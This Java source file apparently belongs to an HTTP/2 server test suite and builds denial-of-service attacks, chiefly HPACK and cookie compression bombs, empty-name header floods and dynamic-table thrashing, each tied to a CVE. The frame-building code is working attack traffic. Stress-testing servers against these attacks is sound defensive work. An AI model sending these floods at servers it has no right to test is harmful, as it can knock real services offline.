package io.proa.proving.attack;

import static io.proa.proving.attack.Http2Line.CONTINUATION;
import static io.proa.proving.attack.Http2Line.END_HEADERS;
import static io.proa.proving.attack.Http2Line.END_STREAM;
import static io.proa.proving.attack.Http2Line.HEADERS;

import io.proa.proving.attack.Attack.Bounds;
import io.proa.proving.attack.Attack.Side;
import java.io.IOException;
import java.util.Arrays;
import java.util.List;

/// Clients of HTTP/2 whose heads are larger than they look.
final class Http2Heads {
    private static final int FIRST_DYNAMIC = 62;
    private static final int LARGEST_FRAME = 16_384;
    private static final int STREAMS = 400;

    private Http2Heads() {}

    static List<Attack> all() {
        return List.of(hpackBomb(), cookieBomb(), emptyNames(), thrash(), tinyHeaderList());
    }

    private static void headers(Http2Line line, int stream, byte[] block) throws IOException {
        int first = Math.min(LARGEST_FRAME, block.length);
        int flags = first == block.length ? END_HEADERS : 0;
        line.frame(HEADERS, flags, stream, Arrays.copyOf(block, first));
        for (int at = first; at < block.length; at += LARGEST_FRAME) {
            int end = Math.min(at + LARGEST_FRAME, block.length);
            flags = end == block.length ? END_HEADERS : 0;
            line.frame(CONTINUATION, flags, stream, Arrays.copyOfRange(block, at, end));
        }
    }

    /// Sends a block on many streams that stay open, after one that fills the table.
    private static Attack.Recipe bomb(byte[] filling, byte[] block) {
        return attacker -> {
            Http2Line line = attacker.http2(attacker.doors().deaf());
            headers(line, 1, filling);
            for (int stream = 3; stream < 2 * STREAMS && attacker.goesOn(line); stream += 2) {
                headers(line, stream, block);
            }
            line.flush();
            attacker.await(2500);
        };
    }

    private static FieldText references(int count) {
        FieldText text = FieldText.request();
        for (int i = 0; i < count; i++) {
            text.reference(FIRST_DYNAMIC);
        }
        return text;
    }

    /// One byte stands for 4000.
    private static Attack hpackBomb() {
        byte[] filling = FieldText.request().indexed("x-a", "y".repeat(3900)).bytes();
        return Attack.flood(
                "hpack_bomb",
                Side.HTTP2,
                "CVE-2016-6581",
                bomb(filling, references(15_000).bytes()));
    }

    /// Crumbs of a cookie are joined, which some do before they look at the limit.
    private static Attack cookieBomb() {
        byte[] filling = FieldText.request().indexed("cookie", "a".repeat(1)).bytes();
        return Attack.flood(
                "cookie_bomb",
                Side.HTTP2,
                "CVE-2026-47774 (HTTP/2 bomb)",
                bomb(filling, references(16_000).bytes()));
    }

    private static Attack emptyNames() {
        FieldText block = FieldText.request();
        for (int i = 0; i < 4000; i++) {
            block.field("", "");
        }
        return Attack.flood(
                "hpack_empty_names",
                Side.HTTP2,
                "CVE-2019-9516",
                bomb(Http2Line.GET, block.bytes()));
    }

    /// The table is emptied and filled again with every head.
    private static Attack thrash() {
        byte[] block = block();
        Attack.Recipe recipe =
                attacker -> {
                    Http2Line line = attacker.http2(attacker.doors().small());
                    for (int stream = 1; attacker.goesOn(line); stream += 2) {
                        line.frame(HEADERS, END_HEADERS | END_STREAM, stream, block);
                        if (stream % 400 == 1) {
                            line.flush();
                            while (line.streamsEnded.get() < stream / 2 - 400
                                    && attacker.goesOn(line)) {
                                attacker.pause(1);
                            }
                        }
                    }
                    line.flush();
                };
        return Attack.harmless(
                "table_size_thrash",
                Side.HTTP2,
                "HPACK table emptied and filled with each head",
                new Bounds(4000, 16 << 20, 3),
                "requests that are answered; a head of 4 KB costs what it is, whatever the table does",
                recipe);
    }

    private static byte[] block() {
        byte[] sizes = new FieldText().tableSize(0).tableSize(4096).bytes();
        byte[] rest = FieldText.request().indexed("x-a", "y".repeat(3800)).bytes();
        byte[] block = Arrays.copyOf(sizes, sizes.length + rest.length);
        System.arraycopy(rest, 0, block, sizes.length, rest.length);
        return block;
    }

    /// SETTINGS_MAX_HEADER_LIST_SIZE is advice (RFC 9113 section 6.5.2): the answer comes.
    private static Attack tinyHeaderList() {
        Attack.Recipe recipe =
                attacker -> {
                    Http2Line line = attacker.http2(attacker.doors().small(), 6, 1);
                    for (int stream = 1; stream < 200 && attacker.goesOn(line); stream += 2) {
                        line.get(stream);
                    }
                    line.flush();
                    while (line.streamsEnded.get() < 100 && attacker.goesOn(line)) {
                        attacker.pause(5);
                    }
                };
        return Attack.harmless(
                "tiny_max_header_list",
                Side.HTTP2,
                "CVE-2026-50560",
                Bounds.STALL.seconds(3),
                "the setting is advice; the answers are sent, and nothing waits for another",
                recipe);
    }
}
